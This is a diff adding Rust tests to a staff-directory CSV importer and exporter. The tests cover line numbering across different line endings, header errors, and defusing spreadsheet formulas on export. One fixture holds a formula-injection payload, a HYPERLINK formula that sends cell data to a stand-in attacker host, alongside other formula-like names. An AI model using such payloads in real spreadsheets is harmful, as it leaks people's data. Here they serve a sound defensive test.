@@ -414,3 +414,140 @@ fn cell_problems_and_cross_row_problems_are_reported_together() {
         "#]],
     );
 }
+
+/// A person's row whose start date is `start_date`, with their own staff number and email.
+fn person_row(n: u32, start_date: &str) -> String {
+    format!(
+        "{n},cleveland,P{n},Hill,p{n}@cleveland.police.uk,,,Constable,officer,,{start_date},,,serving"
+    )
+}
+
+#[test]
+fn problems_name_the_line_an_editor_shows_whatever_the_line_endings() {
+    for (name, eol) in [("LF", "\n"), ("CRLF", "\r\n"), ("CR", "\r")] {
+        let mut lines = vec![HEADER.to_owned()];
+        // Lines 2 to 10 are good; 11 is bad.
+        lines.extend((2..=10).map(|n| person_row(n, "2010-01-01")));
+        lines.push(person_row(11, "2010-13-01"));
+        // Line 12 is blank; 13 to 15 are one row, whose quoted location has two line breaks.
+        lines.push(String::new());
+        lines.push(format!(
+            "13,cleveland,P13,Hill,p13@cleveland.police.uk,,\"Ladgate Lane{eol}Middlesbrough{eol}TS1\",Constable,officer,,2010-01-01,,,serving"
+        ));
+        // Line 16 is bad, 17 good, 18 bad.
+        lines.push(person_row(16, "2010-02-30"));
+        lines.push(person_row(17, "2010-01-01"));
+        lines.push(format!("{},extra", person_row(18, "2010-01-01")));
+        let text = lines.join(eol) + eol;
+        assert_eq!(
+            outcome(&directory(""), &text, ImportOptions::default()),
+            "\
+line 11, column start_date: '2010-13-01' is not a date: use YYYY-MM-DD, e.g. 2019-04-01
+line 13, column location: contains control characters
+line 16, column start_date: '2010-02-30' is not a date: use YYYY-MM-DD, e.g. 2019-04-01
+line 18: has 15 fields but the header has 14; check for a stray comma or quote
+",
+            "{name}"
+        );
+        let read = read_file(text.as_bytes()).unwrap();
+        let good: Vec<u64> = read.rows.iter().map(|row| row.line).collect();
+        assert_eq!(good, [2, 3, 4, 5, 6, 7, 8, 9, 10, 17], "{name}");
+    }
+}
+
+#[test]
+fn the_header_keeps_its_own_line_after_blank_lines() {
+    check(
+        "",
+        "\r\n\r\nstaff_number,organisation,first_name,last_name,emial,rank_or_grade,role_type,start_date,employment_status\r\n",
+        ImportOptions::default(),
+        expect![[r#"
+            line 3, column emial: unknown column 'emial'; the columns are staff_number, organisation, first_name, last_name, email, department, location, rank_or_grade, role_type, line_manager_staff_number, start_date, on_probation, under_performance_management, employment_status, sex, gender_identity, ethnicity, disability, sexual_orientation, religion, age_band, caring_responsibilities
+            line 3: missing required column 'email'
+        "#]],
+    );
+}
+
+#[test]
+fn an_export_of_formula_like_text_is_safe_in_a_spreadsheet_and_reimports_unchanged() {
+    // Names, a department and a location that a spreadsheet would run as formulas, next to
+    // quotes a person may really have in their name or department.
+    let hostile = "\
+100,cleveland,=Jones,-Smith,ann.hill@cleveland.police.uk,+ Ops,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A3,\"\"x\"\")\",Inspector,officer,,2005-03-01,no,no,serving
+101,cleveland,''=Bo,O'Neill,bo.khan@cleveland.police.uk,'Response,Middlesbrough,Sergeant,officer,100,2012-09-10,no,no,serving
+";
+    let directory = directory(hostile);
+    let held: Vec<_> = directory
+        .people
+        .iter()
+        .map(|person| &person.record)
+        .collect();
+    assert_eq!(held[0].first_name.as_ref(), "=Jones");
+    // A file's `''=Bo` is the neutralised form of `'=Bo`, as the export writes it.
+    assert_eq!(held[1].first_name.as_ref(), "'=Bo");
+
+    let text = String::from_utf8(write_file(held)).unwrap();
+    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let cells =
+        |row: &csv::StringRecord| row.iter().take(14).map(str::to_owned).collect::<Vec<_>>();
+    assert_eq!(
+        cells(&rows[0]),
+        [
+            "100",
+            "cleveland",
+            "'=Jones",
+            "'-Smith",
+            "ann.hill@cleveland.police.uk",
+            "'+ Ops",
+            "'=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")",
+            "Inspector",
+            "officer",
+            "",
+            "2005-03-01",
+            "false",
+            "false",
+            "serving",
+        ]
+    );
+    assert_eq!(
+        cells(&rows[1]),
+        [
+            "101",
+            "cleveland",
+            "''=Bo",
+            "O'Neill",
+            "bo.khan@cleveland.police.uk",
+            "'Response",
+            "Middlesbrough",
+            "Sergeant",
+            "officer",
+            "100",
+            "2012-09-10",
+            "false",
+            "false",
+            "serving",
+        ]
+    );
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} in {row:?}"
+            );
+        }
+    }
+
+    assert_eq!(
+        outcome(
+            &directory,
+            &text,
+            ImportOptions {
+                full_extract: true,
+                create_organisations: false
+            }
+        ),
+        "rows 2\nunchanged 2\n",
+        "the export reimports without a change: {text}"
+    );
+}
